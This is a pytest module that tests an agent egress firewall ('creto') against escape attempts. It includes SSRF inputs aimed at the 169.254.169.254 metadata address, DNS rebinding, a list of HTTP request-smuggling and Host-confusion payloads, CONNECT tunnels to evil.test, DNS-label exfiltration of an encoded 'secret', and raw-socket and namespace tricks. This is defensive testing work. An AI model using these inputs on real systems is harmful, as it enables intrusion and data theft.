"""The egress cases of ``tests/cases/egress.json`` that concern one agent, through the real ``creto run``.

Each runs in an Internet where every address answers (``internet.py``), so what gets through is seen, wherever to. The
agents speak DNS, HTTP and TLS byte by byte (``agent_side.py``).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, replace
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from standins import Seen, StandIns

from .agent_side import NOERROR, REFUSED
from .conftest import PATIENT, Creto, Result, wait_for
from .internet import LARGE_SHA256, RESOLVER, Internet, await_quiet, internet
from .unprivileged import as_nobody

CASES = Path(__file__).resolve().parents[1] / "cases" / "egress.json"
AGENT_SIDE = Path(__file__).resolve().parent / "agent_side.py"

# What is left to the tests of sandboxes and gateways.
ELSEWHERE = {
    "EG-020": "two sandboxes on one gateway",
    "EG-067": "a connection limit per sandbox, in the rules of the gateway",
    "EG-072": "gVisor with rules in its own network namespace",
    "FC-006": "rules with sets, which only a gateway replaces while it runs",
    "RT-001": "a pool of sandboxes",
    "RT-002": "a pool of sandboxes",
    "RT-003": "a sandbox started cold",
    "RT-011": "a secret injected into a sandbox",
    "RT-013": "a checkpoint of a sandbox",
    "RT-020": "a sandbox's attestation",
    "RT-030": "gVisor",
    "RT-031": "the limits of a sandbox' cgroup",
}

API, OTHER, FRONT, WILD = "93.184.216.10", "93.184.216.20", "93.184.216.30", "93.184.216.40"
API6 = "2606:2800:220:1::10"
STRANGER = "93.184.216.66"
POLICY = """
@id("use-allowed-hosts")
permit (principal is Creto::Agent, action in Creto::Action::"egress", resource is Creto::Host);
"""
NAMES = ["api.allowed.test", "other.allowed.test", "front.allowed.test", "*.wild.test", "evil.test"]


@dataclass
class Lab(Creto):
    """A creto that runs inside ``net``, under the policy of the cases."""

    net: Internet

    def command(self, *arguments: str) -> list[str]:
        return [*self.net.enter(), *super().command(*arguments)]

    def agent(self, code: str, *options: str) -> tuple[Any, Result]:
        """What the agent printed, as JSON, and how its run ended. ``code`` has all of ``agent_side`` and ``say``."""
        shutil.copy(AGENT_SIDE, self.directory)
        head = "import json, os, socket, ssl, sys, time, pathlib\nfrom agent_side import *\n"
        head += "def say(value): print(json.dumps(value))\n"
        result = self.python(head + code, *options)
        assert result.status == 0, result.out + result.err
        assert "Traceback" not in result.err, result.err
        await_quiet(self.net)
        return json.loads(result.out), result


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    with internet(tmp_path_factory.mktemp("internet"), NAMES) as running:
        yield running


@pytest.fixture
def lab(tmp_path: Path, net: Internet) -> Lab:
    return _lab(tmp_path, net)


def _lab(directory: Path, net: Internet) -> Lab:
    net.reset()
    net.zone.update(
        {
            "api.allowed.test": [API, API6],
            "other.allowed.test": [OTHER],
            "front.allowed.test": [FRONT],
            "x.wild.test": [WILD],
            "evil.test": [STRANGER],
        }
    )
    policies = directory / "policies"
    policies.mkdir()
    (policies / "test.cedar").write_text(POLICY)
    config, state = directory / "creto.toml", directory / "state"
    config.write_text(
        f"""
[common]
org = "acme"
state_dir = "{state}"
[egress]
allow = ["api.allowed.test:80,443,8080", "other.allowed.test:80,443", "*.wild.test:443", "front.allowed.test:443"]
upstream_ca = "{net.ca}"
resolver = "{RESOLVER}"
"""
    )
    environment = {**os.environ, **PATIENT, "NO_COLOR": "1", "PYTHONDONTWRITEBYTECODE": "1"}
    world = StandIns(https=443, http=80, ca=net.ca, seen=Seen())
    return Lab(directory, world, config, policies, state, environment, net)


@dataclass(frozen=True)
class Evidence:
    """One run that several cases are about: what the agent said, how it ended, and what reached the Internet."""

    said: Any
    result: Result
    net: Internet


def _evidence(lab: Lab, code: str) -> Evidence:
    said, result = lab.agent(code)
    net = lab.net
    kept = replace(net, asked=list(net.asked), requests=list(net.requests), packets=list(net.packets))
    return Evidence(said, result, kept)


def reasons(result: Result, host: str | None = None) -> set[str]:
    """Why requests to ``host`` (or any) were refused."""
    rows = result.requests if host is None else result.to(host)
    return {row["reason"] for row in rows if row["decision"] != "allow"}


def status(answer: str) -> int:
    """Of an HTTP answer; 0 for what is none."""
    found = re.match(r"HTTP/1\.1 (\d{3})", answer)
    return int(found[1]) if found else 0


# -- what must work


def test_eg_004_names_are_compared_without_letter_case_and_dns_echoes_the_questions(lab: Lab) -> None:
    said, result = lab.agent(
        """
reply = ask("aPi.AlLoWeD.tEsT")
[address] = reply["addresses"]
say({"reply": reply, "resolved": socket.getaddrinfo("API.Allowed.TEST", 80, socket.AF_INET)[0][4][0],
     "plain": talk(address, 80, get("API.Allowed.TEST", "/plain")),
     "tls": talk(address, 443, get("api.ALLOWED.test", "/tls"), sni="Api.Allowed.Test")})
"""
    )
    assert said["reply"] == {"rcode": 0, "truncated": False, "echoed": True, "addresses": [API]}
    assert said["resolved"] == API
    assert (status(said["plain"]), status(said["tls"])) == (200, 200), said
    assert [(r.host.lower(), r.path) for r in lab.net.requests] == [
        ("api.allowed.test", "/plain"),
        ("api.allowed.test", "/tls"),
    ]
    assert [(r["decision"], r["path"]) for r in result.to("api.allowed.test")] == [("allow", "/plain"), ("allow", "/tls")]


def test_eg_006_websockets_events_and_large_downloads_pass_unbuffered_and_are_recorded(lab: Lab) -> None:
    said, result = lab.agent(
        """
import asyncio, hashlib, aiohttp
async def main():
    said = {}
    async with aiohttp.ClientSession("https://api.allowed.test", timeout=aiohttp.ClientTimeout(30)) as session:
        async with session.ws_connect("/ws") as ws:
            said["ws"] = []
            for n in range(3):
                await ws.send_str(f"hello {n}")
                said["ws"].append(await ws.receive_str(timeout=60))
            await ws.send_bytes(bytes(1 << 20))
            said["binary"] = len(await ws.receive_bytes(timeout=60))
        said["events"] = []
        async with session.get("/events") as response:
            while line := await asyncio.wait_for(response.content.readline(), 60):
                if line.strip():
                    said["events"].append(line.decode().strip())
                    (await session.post("/ack")).release()
        digest = hashlib.sha256()
        async with session.get("/large") as response:
            async for piece in response.content.iter_any():
                digest.update(piece)
        said["large"] = digest.hexdigest()
    say(said)
asyncio.run(main())
"""
    )
    assert said["ws"] == ["hello 0", "hello 1", "hello 2"]
    assert said["binary"] == 1 << 20, "no message is cut"
    assert said["events"] == [f"data: {n}" for n in range(5)], "each came before the next one could be sent"
    assert said["large"] == LARGE_SHA256
    rows = {row["path"]: row for row in result.to("api.allowed.test")}
    recorded = {path: (row["method"], row["status"], row["decision"]) for path, row in rows.items()}
    assert recorded == {
        "/ws": ("GET", 101, "allow"),
        "/events": ("GET", 200, "allow"),
        "/ack": ("POST", 200, "allow"),
        "/large": ("GET", 200, "allow"),
    }
    assert rows["/large"]["bytes_down"] >= 64 << 20
    assert rows["/ws"]["bytes_up"] > 1 << 20 and rows["/ws"]["bytes_down"] > 1 << 20
    audit = lab.call("audit", "tail", "--json", "-n", "100").stdout
    for path, (method, code, _) in recorded.items():
        assert path in audit and method in audit and str(code) in audit


# -- addresses that are not for agents


def test_eg_011_a_mapped_address_is_the_address_it_stands_for(lab: Lab) -> None:
    said, result = lab.agent(
        """
say([talk("169.254.169.254", 80, get("169.254.169.254")),
     talk("::ffff:169.254.169.254", 80, get("169.254.169.254")),
     talk("::ffff:169.254.169.254", 80, get("[::ffff:169.254.169.254]")),
     talk("::ffff:169.254.169.254", 80, get("[::ffff:a9fe:a9fe]")),
     talk("::ffff:169.254.169.254", 443, get("169.254.169.254"), sni="169.254.169.254")])
"""
    )
    *plain, tls = said
    assert [status(answer) for answer in plain] == [403] * 4 and tls == "ConnectionResetError", said
    assert "169.254.169.254, which is metadata" in plain[0] and "169.254.169.254, which is metadata" in plain[1]
    assert [row["reason"] for row in result.requests[:4]] == ["address_not_public"] * 4
    assert {row["decision"] for row in result.requests} == {"deny"}
    assert lab.net.destinations("tcp") == set()


PRIVATE = {
    "metadata": "169.254.169.254",
    "loopback": "127.0.0.1",
    "private": "10.1.2.3",
    "carrier": "100.64.0.7",
    "zero": "0.0.0.0",
    "home": "192.168.1.1",
    "multicast": "224.0.0.251",
}
WRAPPING = {
    "nat64": "64:ff9b::a9fe:a9fe",
    "sixtofour": "2002:a9fe:a9fe::",
    "teredo": "2001:0:4136:e378:8000:63bf:3fff:fdd2",
    "mapped": "::ffff:169.254.169.254",
    "compatible": "::169.254.169.254",
    "local": "fe80::1",
    "unique": "fd00:ec2::254",
    "loopback6": "::1",
}


@pytest.fixture(scope="module")
def filtered(tmp_path_factory: pytest.TempPathFactory, net: Internet) -> Evidence:
    lab = _lab(tmp_path_factory.mktemp("filtered"), net)
    net.zone.update({f"{label}.wild.test": [address] for label, address in (PRIVATE | WRAPPING).items()})
    return _evidence(
        lab,
        f"""
names = {{f"{{label}}.wild.test": kind for labels, kind in (({[*PRIVATE]!r}, A), ({[*WRAPPING]!r}, AAAA)) for label in labels}}
def connect(name):
    with socket.create_connection((name, 443), timeout=5): return "connected"
say({{name: [ask(name, kind), ended(lambda: connect(name))] for name, kind in names.items()}})
""",
    )


def _assert_filtered(filtered: Evidence, labels: Iterable[str], kind: int) -> None:
    for label in labels:
        reply, connecting = filtered.said[f"{label}.wild.test"]
        assert (reply["rcode"], reply["addresses"]) == (0, []), label
        assert connecting.startswith("gaierror"), label
        assert reasons(filtered.result, f"{label}.wild.test") == {"dns_answer_filtered"}
        assert (f"{label}.wild.test", kind) in filtered.net.asked, "the answer was there to be filtered"
    assert filtered.net.destinations("tcp") == set()


def test_eg_012_answers_with_private_addresses_are_filtered(filtered: Evidence) -> None:
    _assert_filtered(filtered, PRIVATE, 1)


def test_eg_014_answers_with_addresses_that_carry_others_are_filtered(filtered: Evidence) -> None:
    _assert_filtered(filtered, WRAPPING, 28)


def test_eg_015_of_a_mixed_answer_only_the_public_address_is_given_and_learned(lab: Lab) -> None:
    lab.net.zone["api.allowed.test"] = ["10.200.0.1", API, "127.0.0.1"]
    said, result = lab.agent(
        """
say({"addresses": lookup("api.allowed.test"),
     "public": talk("93.184.216.10", 80, get("api.allowed.test", "/public")),
     "private": talk("10.200.0.1", 80, get("api.allowed.test", "/private"))})
"""
    )
    assert said["addresses"] == [API]
    assert (status(said["public"]), status(said["private"])) == (200, 403)
    assert reasons(result) == {"ip_not_resolved_for_name"}
    assert [(r.address, r.path) for r in lab.net.requests] == [(API, "/public")]
    assert lab.net.destinations("tcp") == {(API, 80)}


def test_eg_016_a_rebound_name_never_leads_to_the_private_address(lab: Lab) -> None:
    """The name's address changes to loopback and to a private network once its TTL of a second is over."""
    turns = count()
    lab.net.zone["api.allowed.test"] = lambda: [API] if next(turns) == 0 else ["127.0.0.1", "10.0.0.5"]
    lab.net.ttl_s = 1
    said, result = lab.agent(
        """
first = lookup("api.allowed.test")
served = talk(first[0], 80, get("api.allowed.test", "/first"))
deadline = time.monotonic() + 60
while (second := lookup("api.allowed.test")) == first and time.monotonic() < deadline: time.sleep(0.05)
say({"first": first, "served": served, "second": second,
     "kept": talk(first[0], 80, get("api.allowed.test", "/kept")),
     "by name": ended(lambda: socket.create_connection(("api.allowed.test", 80), timeout=5)),
     "private": talk("10.0.0.5", 80, get("api.allowed.test", "/private"))})
"""
    )
    assert (said["first"], said["second"]) == ([API], [])
    assert (status(said["served"]), status(said["kept"]), status(said["private"])) == (200, 200, 403)
    assert said["by name"].startswith("gaierror")
    assert reasons(result) == {"dns_answer_filtered", "ip_not_resolved_for_name"}
    assert lab.net.destinations("tcp") == {(API, 80)}


def test_eg_016_the_address_is_judged_when_it_is_dialled_not_only_when_it_is_asked_for(lab: Lab) -> None:
    """Where no DNS answer is given to the agent at all, because it names its destinations to a proxy."""
    turns = count()
    lab.net.zone["api.allowed.test"] = lambda: [API] if next(turns) < 2 else ["127.0.0.1"]
    lab.net.ttl_s = 0
    said, result = lab.agent(
        """
import urllib.request, urllib.error
def fetch(path):
    try: return urllib.request.urlopen("http://api.allowed.test" + path, timeout=60).status
    except urllib.error.HTTPError as error: return error.code
say([fetch("/first"), fetch("/second"), fetch("/third")])
""",
        "--enforce",
        "proxy-env",
    )
    assert said == [200, 403, 403]
    assert reasons(result) == {"address_not_public"}
    assert [r.path for r in lab.net.requests] == ["/first"]
    assert ("127.0.0.1", 80) not in lab.net.destinations("tcp")


ODD_NUMERALS = [
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "169.254.43518",
    "0xa9.0xfe.0xa9.0xfe",
    "169.254.169.254",
    "169.254.169.254.",
]


def test_eg_018_numerals_are_never_read_as_addresses(lab: Lab) -> None:
    said, result = lab.agent(
        f"""
[address] = lookup("api.allowed.test")
hosts = {ODD_NUMERALS!r}
say({{"hosts": {{host: talk(address, 80, get(host)) for host in [*hosts, "[::ffff:a9fe:a9fe]"]}},
     "names": {{host: ask(host)["rcode"] for host in hosts if not host.endswith(".")}},
     "server names": {{host: talk(address, 443, get(host), sni=host) for host in hosts[:5]}}}})
"""
    )
    assert {host: status(answer) // 100 for host, answer in said["hosts"].items()} == dict.fromkeys(said["hosts"], 4)
    assert set(said["names"].values()) == {5}
    assert {status(answer) for answer in said["server names"].values()} == {0}
    assert {row["decision"] for row in result.requests} == {"deny"}
    assert lab.net.destinations("tcp") == set() and lab.net.requests == []
    assert {name for name, _ in lab.net.asked} == {"api.allowed.test"}


# -- names that are not the address'


@pytest.fixture(scope="module")
def borrowed(tmp_path_factory: pytest.TempPathFactory, net: Internet) -> Evidence:
    """An allowed name, used for what it was not answered for."""
    return _evidence(
        _lab(tmp_path_factory.mktemp("borrowed"), net),
        """
[api], [other] = lookup("api.allowed.test"), lookup("other.allowed.test")
request = get("api.allowed.test")
connect = b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n"
nested = b"CONNECT api.allowed.test:443 HTTP/1.1\\r\\nHost: api.allowed.test:443\\r\\n\\r\\n"
say({"host field": [talk("203.0.113.20", 8080, request), talk("93.184.216.66", 80, request), talk(other, 80, request),
                    talk(api, 80, get("other.allowed.test"))],
     "server name": [talk(place, 443, request, sni="api.allowed.test") for place in ("203.0.113.20", "93.184.216.66", other)],
     "connect": [talk(api, 80, connect + request), talk(api, 8080, nested), talk(api, 443, connect, sni="api.allowed.test")]})
""",
    )


def test_eg_031_an_allowed_host_field_does_not_open_another_hosts_address(borrowed: Evidence) -> None:
    answers = borrowed.said["host field"]
    assert [status(answer) for answer in answers] == [403] * 4, answers
    assert all("ip_not_resolved_for_name" in answer for answer in answers)
    assert [row["reason"] for row in borrowed.result.requests[:4]] == ["ip_not_resolved_for_name"] * 4
    assert borrowed.net.destinations("tcp") == set()


def test_eg_032_an_allowed_server_name_does_not_open_another_hosts_address(borrowed: Evidence) -> None:
    assert borrowed.said["server name"] == ["ConnectionResetError"] * 3
    assert [row["reason"] for row in borrowed.result.requests[4:7]] == ["ip_not_resolved_for_name"] * 3
    assert borrowed.net.destinations("tcp") == set()


def test_eg_036_connect_is_refused_where_there_is_no_proxy(borrowed: Evidence) -> None:
    answers = borrowed.said["connect"]
    assert [status(answer) for answer in answers] == [403] * 3, answers
    assert all("connect_in_transparent" in answer and answer.count("HTTP/1.1 ") == 1 for answer in answers)
    assert [row["reason"] for row in borrowed.result.requests[7:]] == ["connect_in_transparent"] * 3
    assert borrowed.net.destinations("tcp") == set()


def test_eg_033_a_host_field_behind_another_server_name_is_refused(lab: Lab) -> None:
    said, result = lab.agent(
        """
import h2.connection, h2.events
[front] = lookup("front.allowed.test")
name = "front.allowed.test"
context = ssl.create_default_context(); context.set_alpn_protocols(["h2", "http/1.1"])
def by_h2(authority):
    with context.wrap_socket(socket.create_connection((front, 443)), server_hostname=name) as sock:
        assert sock.selected_alpn_protocol() == "h2"
        connection = h2.connection.H2Connection(); connection.initiate_connection()
        fields = {":method": "GET", ":path": "/h2", ":scheme": "https", ":authority": authority}
        connection.send_headers(1, list(fields.items()), end_stream=True)
        sock.sendall(connection.data_to_send())
        while True:
            for event in connection.receive_data(sock.recv(65536)):
                if isinstance(event, h2.events.ResponseReceived):
                    return int(dict(event.headers)[b":status"])
first = get(name, "/first").replace(b"Connection: close\\r\\n", b"")
say({"h2": by_h2(name), "h2 evil": by_h2("evil.test"), "h2 allowed": by_h2("api.allowed.test"),
     "honest": talk(front, 443, get(name, "/honest"), sni=name),
     "evil": talk(front, 443, get("evil.test"), sni=name),
     "allowed": talk(front, 443, get("api.allowed.test"), sni=name),
     "second": talk(front, 443, first + get("evil.test"), sni=name)})
"""
    )
    assert (said["h2"], said["h2 evil"], said["h2 allowed"]) == (200, 421, 421)
    assert status(said["honest"]) == 200
    for attempt in ("evil", "allowed"):
        assert status(said[attempt]) == 421 and "sni_host_mismatch" in said[attempt]
    assert re.findall(r"HTTP/1\.1 (\d{3})", said["second"]) == ["200", "421"]
    assert "sni_host_mismatch" in reasons(result, "front.allowed.test")
    assert [r.path for r in lab.net.requests] == ["/h2", "/honest", "/first"]
    assert lab.net.destinations("tcp") == {(FRONT, 443)}


_HOST = "Host: api.allowed.test"
MALFORMED = {
    "two hosts": ["GET / HTTP/1.1", _HOST, "Host: evil.test"],
    "two equal hosts": ["GET / HTTP/1.1", _HOST, _HOST],
    "no host": ["GET / HTTP/1.1", "Accept: */*"],
    "user information": ["GET / HTTP/1.1", "Host: api.allowed.test@evil.test"],
    "user information before": ["GET / HTTP/1.1", "Host: evil.test@api.allowed.test"],
    "fragment": ["GET / HTTP/1.1", "Host: api.allowed.test#@evil.test"],
    "path in host": ["GET / HTTP/1.1", "Host: api.allowed.test/evil.test"],
    "list of hosts": ["GET / HTTP/1.1", "Host: api.allowed.test, evil.test"],
    "two ports": ["GET / HTTP/1.1", "Host: api.allowed.test:80:80"],
    "another host in the target": ["GET http://evil.test/ HTTP/1.1", _HOST],
    "user information in the target": ["GET http://api.allowed.test@evil.test/ HTTP/1.1", _HOST],
    "authority form": ["GET evil.test:80 HTTP/1.1", _HOST],
    "folded field": ["GET / HTTP/1.1", _HOST, "X-A: b", " folded"],
    "folded host": ["GET / HTTP/1.1", "Host:", " api.allowed.test"],
    "space before the colon": ["GET / HTTP/1.1", "Host : api.allowed.test"],
    "length and chunked": ["POST / HTTP/1.1", _HOST, "Content-Length: 4", "Transfer-Encoding: chunked", "", "0", ""],
    "chunked and length": ["POST / HTTP/1.1", _HOST, "Transfer-Encoding: chunked", "Content-Length: 4", "", "0", ""],
    "two lengths": ["POST / HTTP/1.1", _HOST, "Content-Length: 4", "Content-Length: 5", "", "aaaaa"],
    "signed length": ["POST / HTTP/1.1", _HOST, "Content-Length: +4", "", "aaaa"],
    "chunked behind identity": ["POST / HTTP/1.1", _HOST, "Transfer-Encoding: chunked, identity", "", "0", ""],
    "a coding like chunked": ["POST / HTTP/1.1", _HOST, "Transfer-Encoding: \x0bchunked", "", "0", ""],
    "a bare line feed": ["GET / HTTP/1.1", _HOST + "\nX-A: b"],
    "a bare carriage return": ["GET / HTTP/1.1", _HOST, "X-A: b\rHost: evil.test"],
    "NUL": ["GET / HTTP/1.1", _HOST + "\0evil.test"],
    "space in the target": ["GET /a b HTTP/1.1", _HOST],
    "no version": ["GET /", _HOST],
}


def test_eg_035_malformed_and_ambiguous_requests_are_refused_and_never_forwarded(lab: Lab) -> None:
    said, result = lab.agent(
        f"""
[address] = lookup("api.allowed.test")
attempts = {MALFORMED!r}
said = {{name: talk(address, 80, ("\\r\\n".join(lines) + "\\r\\n\\r\\n").encode("latin-1")) for name, lines in attempts.items()}}
say(said | {{"well-formed": talk(address, 80, get("api.allowed.test", "/well-formed"))}})
"""
    )
    assert status(said.pop("well-formed")) == 200
    assert {name: answer for name, answer in said.items() if not 400 <= status(answer) < 500 and status(answer) != 501} == {}
    for name, answer in said.items():
        assert len(re.findall(r"^HTTP/1\.1 ", answer, re.MULTILINE)) == 1, f"{name}: what follows is not read as a request"
    assert [r.path for r in lab.net.requests] == ["/well-formed"]
    assert lab.net.destinations("tcp") == {(API, 80)}


# -- TLS


NOT_WILD = ["a.b.wild.test", "wild.test", "evilwild.test", "x.wild.test.evil.test", "x.xn--wld-jhd.test", "wild-test"]


def test_eg_039_a_wildcard_stands_for_exactly_one_label(lab: Lab) -> None:
    lab.net.zone.update({"xn--bcher-kva.wild.test": [WILD], **dict.fromkeys(NOT_WILD, [WILD])})
    lab.net.zone["xn--.wild.test"] = lab.net.zone["xn--pi-6kc.allowed.test"] = [WILD]
    said, result = lab.agent(
        f"""
[address] = lookup("x.wild.test")
others = {NOT_WILD!r} + ["xn--.wild.test", "xn--pi-6kc.allowed.test"]
say({{"x": talk(address, 443, get("x.wild.test", "/x"), sni="x.wild.test"),
     "a-label": ask("xn--bcher-kva.wild.test")["addresses"],
     "port": talk(address, 80, get("x.wild.test")),
     "names": {{name: ask(name)["rcode"] for name in others}},
     "tls": {{name: talk(address, 443, get(name), sni=name) for name in others if name != "xn--.wild.test"}}}})
"""
    )
    assert status(said["x"]) == 200
    assert said["a-label"] == [WILD]
    assert status(said["port"]) == 403 and "port_not_allowed" in said["port"]
    assert set(said["names"].values()) == {5}
    assert {status(answer) for answer in said["tls"].values()} == {0}
    for name in NOT_WILD:
        assert reasons(result, name) == {"host_not_allowed", "ip_not_resolved_for_name"}
    assert {name for name, _ in lab.net.asked} == {"x.wild.test", "xn--bcher-kva.wild.test"}
    assert [r.path for r in lab.net.requests] == ["/x"]


def test_eg_040_encrypted_client_hello_is_refused_where_tls_is_not_opened(lab: Lab) -> None:
    lab.add('[egress.tls]\nsplice = ["front.allowed.test"]\n')
    said, result = lab.agent(
        """
[front], [api] = lookup("front.allowed.test"), lookup("api.allowed.test")
def first(address, name, ech):
    with socket.create_connection((address, 443), timeout=5) as sock:
        sock.sendall(client_hello(name, ech=ech))
        return sock.recv(1).hex()
say({"spliced": ended(lambda: first(front, "front.allowed.test", False)),
     "hidden": ended(lambda: first(front, "front.allowed.test", True)),
     "intercepted": ended(lambda: first(api, "api.allowed.test", True)),
     "keys": [ask("front.allowed.test", kind) for kind in (HTTPS, SVCB)]})
"""
    )
    assert said["spliced"] == "ok: 16", "the server's hello, so what made the difference is the extension"
    assert said["hidden"].startswith("ConnectionResetError")
    assert said["intercepted"] == "ok: 16", "creto ends this session itself and sees the inner name"
    assert [(reply["rcode"], reply["addresses"]) for reply in said["keys"]] == [(0, []), (0, [])]
    assert reasons(result, "front.allowed.test") == {"ech"}
    assert [p.destination for p in lab.net.packets if p.protocol == "tcp"] == [FRONT]


# -- DNS


@pytest.fixture(scope="module")
def questions(tmp_path_factory: pytest.TempPathFactory, net: Internet) -> Evidence:
    return _evidence(
        _lab(tmp_path_factory.mktemp("questions"), net),
        """
servers = ["127.0.0.1", "::1", "127.0.0.53", "203.0.113.10", "8.8.8.8", "2001:4860:4860::8888"]
names = ("api.allowed.test", "evil.test", "10.216.184.93.in-addr.arpa")
kinds = {"TXT": TXT, "NULL": NULL, "ANY": ANY, "PTR": PTR, "AXFR": AXFR, "MX": 15, "SRV": 33, "unknown": 65280}
say({"names": {f"{name} {server} {tcp}": ask(name, tcp=tcp, server=server)["rcode"] for server in servers for tcp in (False, True)
               for name in ("evil.test", "c2VjcmV0.evil.test", "c2VjcmV0.api.allowed.test")},
     "allowed": [ask("api.allowed.test", server=server)["addresses"] for server in servers],
     "kinds": {f"{kind} {name} {tcp}": ask(name, kinds[kind], tcp=tcp)["rcode"]
               for kind in kinds for name in names for tcp in (False, True)},
     "services": [ask("api.allowed.test", kind) for kind in (HTTPS, SVCB)],
     "evil services": [ask("evil.test", kind)["rcode"] for kind in (HTTPS, SVCB)]})
""",
    )


def test_eg_050_every_name_server_is_creto_and_refused_names_cause_no_packet(questions: Evidence) -> None:
    said, net = questions.said, questions.net
    assert said["names"] == dict.fromkeys(said["names"], REFUSED) and len(said["names"]) == 36
    assert said["allowed"] == [[API]] * 6
    assert net.asked == [("api.allowed.test", 1)], "asked once, then kept; and nothing else was ever asked"
    assert net.destinations("udp") == set() and net.destinations("tcp") == set()
    assert "host_not_allowed" in reasons(questions.result, "evil.test")


def test_eg_054_only_addresses_are_answered(questions: Evidence) -> None:
    said = questions.said
    assert said["kinds"] == dict.fromkeys(said["kinds"], REFUSED) and len(said["kinds"]) == 48
    assert [(reply["rcode"], reply["addresses"]) for reply in said["services"]] == [(NOERROR, [])] * 2
    assert said["evil services"] == [REFUSED] * 2
    assert questions.net.asked == [("api.allowed.test", 1)], "the one question that was for an address"
    assert reasons(questions.result, "api.allowed.test") == {"dns_type_refused"}


def test_eg_057_rotating_answers_cause_no_spurious_refusal(lab: Lab) -> None:
    """500 connections, each at once to the first address of a fresh answer, ten at a time; then one answer of 200."""
    pool = [f"93.184.{200 + number // 100}.{number % 100 + 1}" for number in range(200)]
    turns = count()

    def rotating() -> list[str]:
        turn = next(turns) * 7
        return [pool[(turn + step) % len(pool)] for step in range(8)]

    lab.net.zone["api.allowed.test"], lab.net.zone["other.allowed.test"] = rotating, pool
    lab.net.ttl_s = 0
    said, result = lab.agent(
        """
from concurrent.futures import ThreadPoolExecutor
request = get("api.allowed.test", "/rotating")
def one(_): return talk(lookup("api.allowed.test")[0], 80, request)[:12]
with ThreadPoolExecutor(10) as threads:
    rotating = list(threads.map(one, range(500)))
    truncated = ask("other.allowed.test")["truncated"]
    many = lookup("other.allowed.test")
    whole = list(threads.map(lambda address: talk(address, 80, get("other.allowed.test", "/whole"))[:12], many))
say({"rotating": {answer: rotating.count(answer) for answer in rotating}, "truncated": truncated,
     "many": len(many), "whole": {answer: whole.count(answer) for answer in whole}})
"""
    )
    assert said["rotating"] == {"HTTP/1.1 200": 500}
    assert said["truncated"] and said["many"] == 200
    assert said["whole"] == {"HTTP/1.1 200": 200}
    assert reasons(result) == set()
    assert {r.address for r in lab.net.requests if r.path == "/whole"} == set(pool)
    assert len({r.address for r in lab.net.requests if r.path == "/rotating"}) > 100, "the answers did rotate"
    # Equal questions under way are asked once, so ten at a time cause at most 500, and never one per address.
    assert 50 <= lab.net.asked.count(("api.allowed.test", 1)) <= 500


# -- what is neither TCP nor DNS


@pytest.fixture(scope="module")
def powers(tmp_path_factory: pytest.TempPathFactory, net: Internet) -> Evidence:
    """An agent that tries what only the owner of a network may do; as whoever runs the tests, so often as root."""
    return _evidence(
        _lab(tmp_path_factory.mktemp("powers"), net),
        """
import ctypes
lookup("api.allowed.test"); lookup("api.allowed.test", AAAA); "".encode("idna")
SO_BINDTODEVICE, SO_MARK, AF_PACKET, CLONE_NEWUSER = 25, 36, 17, 0x10000000
places = ("93.184.216.10", "2606:2800:220:1::10")

def raw(family, kind, protocol): socket.socket(family, kind, protocol).close()

def with_option(option, value, address="93.184.216.66", name="93.184.216.66"):
    with socket.socket() as sock:
        sock.settimeout(0.5)
        setting = ended(lambda: sock.setsockopt(socket.SOL_SOCKET, option, value))
        def exchange():
            sock.connect((address, 80)); sock.sendall(get(name))
            return sock.recv(12).decode()
        return [setting, ended(exchange)]

targets = [(host, port) for host in (*places, "203.0.113.1") for port in (443, 4444, 123)]
targets += [("224.0.0.251", 5353), ("ff02::fb%creto0", 5353), ("255.255.255.255", 67), ("169.254.169.254", 123)]
said = {
    "datagrams": {f"{host} {port}": send_datagram(host, port) for host, port in targets},
    "large datagrams": [send_datagram(host, port, bytes(4000)) for host in places for port in (4444, 443)],
    "raw": [ended(lambda: raw(family, socket.SOCK_RAW, protocol)) for family, protocol in
            ((socket.AF_INET, socket.IPPROTO_RAW), (socket.AF_INET, socket.IPPROTO_TCP), (socket.AF_INET6, 44),
             (socket.AF_INET6, socket.IPPROTO_RAW))],
    "icmp": [ended(lambda: raw(socket.AF_INET6, kind, socket.IPPROTO_ICMPV6)) for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM)],
    "packet": ended(lambda: raw(AF_PACKET, socket.SOCK_RAW, socket.htons(3))),
    "marks": [with_option(SO_MARK, mark) for mark in (1, 1337, 0x1337)],
    "device": with_option(SO_BINDTODEVICE, b"creto0\\0", "93.184.216.10", "api.allowed.test"),
}
status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
said["no new privileges"] = status["NoNewPrivs"].strip()
pid = os.fork()
if pid == 0:
    ctypes.CDLL(None).unshare(CLONE_NEWUSER)
    os._exit(0 if ended(lambda: raw(AF_PACKET, socket.SOCK_RAW, socket.htons(3))).startswith("ok") else 3)
said["packet as root of its own"] = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
said["become"] = ended(lambda: os.setuid(1337))
said["as 1337"] = [talk("93.184.216.66", 80, get("93.184.216.66"))[:12], send_datagram("93.184.216.66", 4444)]
say(said)
""",
    )


def test_eg_061_udp_does_not_leave(powers: Evidence) -> None:
    said = powers.said["datagrams"]
    assert len(said) == 13
    assert [target for target, how in said.items() if how.startswith("ok")] == []
    waited = [target for target, how in said.items() if how.startswith("TimeoutError") and " 443" in target]
    assert waited == [], "QUIC is rejected at once, so that clients fall back to TCP without waiting"
    assert powers.net.destinations("udp") == set()


def test_eg_063_fragments_do_not_leave(powers: Evidence) -> None:
    """Datagrams too large for one packet; hand-made fragments, overlapping ones too, need a socket agents cannot have."""
    assert [how for how in powers.said["large datagrams"] if how.startswith("ok")] == []
    assert all(how.startswith("PermissionError") for how in powers.said["raw"]), powers.said["raw"]
    assert powers.net.destinations("udp") == set()


def test_eg_064_frames_cannot_be_written(powers: Evidence) -> None:
    """Not even by an agent that made itself root of a user namespace, and so has CAP_NET_RAW there."""
    assert powers.said["packet"].startswith("OSError"), powers.said["packet"]
    assert powers.said["packet as root of its own"] == 3


def test_eg_070_no_user_id_is_exempt(powers: Evidence) -> None:
    """Root may become any user inside its jail, for package managers do; it is the same agent afterwards."""
    said = powers.said
    assert said["no new privileges"] == "1"
    assert said["become"].startswith("ok" if os.geteuid() == 0 else ("PermissionError", "OSError")), said["become"]
    answer, datagram = said["as 1337"]
